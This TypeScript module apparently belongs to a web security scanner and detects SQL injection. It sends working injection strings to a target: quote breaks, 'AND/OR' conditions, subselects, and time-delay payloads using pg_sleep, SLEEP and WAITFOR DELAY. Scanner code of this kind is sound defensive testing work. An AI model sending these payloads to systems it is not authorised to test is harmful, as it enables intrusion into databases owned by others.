// SQL in a value: proven by what conditions change, by the database's own words, or by the time that it was told to wait (CWE-89).
import { databaseMessage, wordsOf } from "../inputs/signatures.ts";
import { type Aim, type Answered, type Attack, outlineOf, type Proof, takesText } from "./attack.ts";
import { isDelayed, type Delay } from "./delay.ts";

export const sql: Attack = {
  rule: "dynamic.injection-sql",
  suits: takesText,
  async run(aim) {
    const broken = await aim.send(`${aim.usual}'`);
    if (broken === undefined) return undefined;
    return (
      (await byConditions(aim)) ??
      (await byMessage(aim, broken)) ??
      (await byExpression(aim, broken)) ??
      (await byTime(aim, broken))
    );
  },
};

type Condition = (a: number, b: number) => string;

/** True where both are the same number. */
function conditions(usual: string, unknown: string): readonly Condition[] {
  return [
    (a, b) => `${usual}' AND '${a}'='${b}`,
    (a, b) => `${unknown}' OR '${a}'='${b}`,
    (a, b) => `${usual} AND ${a}=${b}`,
  ];
}

async function byConditions(aim: Aim): Promise<Proof | undefined> {
  const unknown = aim.word();
  const nothing = await aim.send(unknown);
  if (nothing === undefined) return undefined;
  for (const condition of conditions(aim.usual, unknown)) {
    // oxlint-disable-next-line no-await-in-loop -- the first that shows ends it
    const pair = await bothTwice(aim, condition);
    // Where a text that means nothing is answered like the true one, the value is not looked at.
    if (pair === undefined || outlineOf(pair[0]) === outlineOf(nothing) || pair[0].reply.status >= 300) continue;
    return {
      what: "conditions",
      message: `a condition of SQL in ${aim.slot.label} decides what is answered`,
      evidence: [nothing, ...pair],
      say: ["a text that is nothing there", "with a condition that holds", "with one that never does: another answer"],
      confidence: "certain",
    };
  }
  return undefined;
}

/**
 * Undefined unless they are answered unlike, and so again with the numbers exchanged: who searches for words finds others then,
 * who works conditions out does not.
 */
async function bothTwice(aim: Aim, condition: Condition): Promise<readonly [Answered, Answered] | undefined> {
  const first = await both(aim, condition(7, 7), condition(7, 8));
  if (first === undefined) return undefined;
  const again = await both(aim, condition(8, 8), condition(8, 7));
  const isSame = again?.every((answer, i) => outlineOf(answer) === outlineOf(first[i] as Answered)) ?? false;
  return isSame ? first : undefined;
}

async function both(aim: Aim, holds: string, never: string): Promise<readonly [Answered, Answered] | undefined> {
  const yes = await aim.send(holds);
  const no = yes === undefined ? undefined : await aim.send(never);
  return yes === undefined || no === undefined || outlineOf(yes) === outlineOf(no) ? undefined : [yes, no];
}

async function byMessage(aim: Aim, broken: Answered): Promise<Proof | undefined> {
  const said = databaseMessage(wordsOf(broken.reply));
  if (said === undefined) return undefined;
  // Two quotes are one in a text: then nothing is broken.
  const whole = await aim.send(`${aim.usual}''`);
  if (whole === undefined || databaseMessage(wordsOf(whole.reply)) !== undefined) return undefined;
  return {
    what: "message",
    message: `a quote in ${aim.slot.label} breaks a statement of SQL`,
    evidence: [broken, whole],
    say: [`one quote: ${said}`, "two quotes: nothing is broken"],
    confidence: "firm",
  };
}

const REFUSED = 400;

/** No text but a name or number, as in ORDER BY: a word is no column, and is refused, where what is worked out is none the less taken. */
async function byExpression(aim: Aim, broken: Answered): Promise<Proof | undefined> {
  if (broken.reply.status < REFUSED) return undefined;
  const evidence: Answered[] = [];
  for (let i = 0; i < 2; i += 1) {
    const number = 1 + (aim.number() % 9);
    for (const [value, isTaken] of [
      [aim.word(), false],
      [`(SELECT ${number})`, true],
      [`(SELECT ${number}`, false],
    ] as const) {
      const answer = await aim.send(value); // oxlint-disable-line no-await-in-loop -- the first that does not fit ends it
      if (answer === undefined || answer.reply.status < REFUSED !== isTaken) return undefined;
      evidence.push(answer);
    }
  }
  return {
    what: "expression",
    message: `an expression of SQL in ${aim.slot.label} is worked out`,
    evidence: evidence.slice(0, 3),
    say: ["a word is refused", "an expression is taken", "half of it is refused"],
    confidence: "certain",
  };
}

const DELAYS: readonly Delay[] = [
  { name: "PostgreSQL", long: (usual) => `${usual}'||pg_sleep(1.5)||'`, none: (usual) => `${usual}'||pg_sleep(0)||'` },
  { name: "MySQL", long: (usual) => `${usual}' AND SLEEP(1.5)='`, none: (usual) => `${usual}' AND SLEEP(0)='` },
  {
    name: "SQL Server",
    long: (usual) => `${usual}';WAITFOR DELAY '0:0:1.5'--`,
    none: (usual) => `${usual}';WAITFOR DELAY '0:0:0'--`,
  },
];

/** Only where a quote breaks something: waiting is dear. */
async function byTime(aim: Aim, broken: Answered): Promise<Proof | undefined> {
  if (broken.reply.status < 500) return undefined;
  for (const delay of DELAYS) {
    // oxlint-disable-next-line no-await-in-loop -- the first that waits ends it
    const evidence = await isDelayed(aim, delay);
    if (evidence === undefined) continue;
    return {
      what: "time",
      message: `SQL in ${aim.slot.label} makes the database wait for as long as it says (${delay.name})`,
      evidence,
      say: ["told to wait for 1.5 s", "told not to wait", "told to wait again"],
      confidence: "firm",
    };
  }
  return undefined;
}
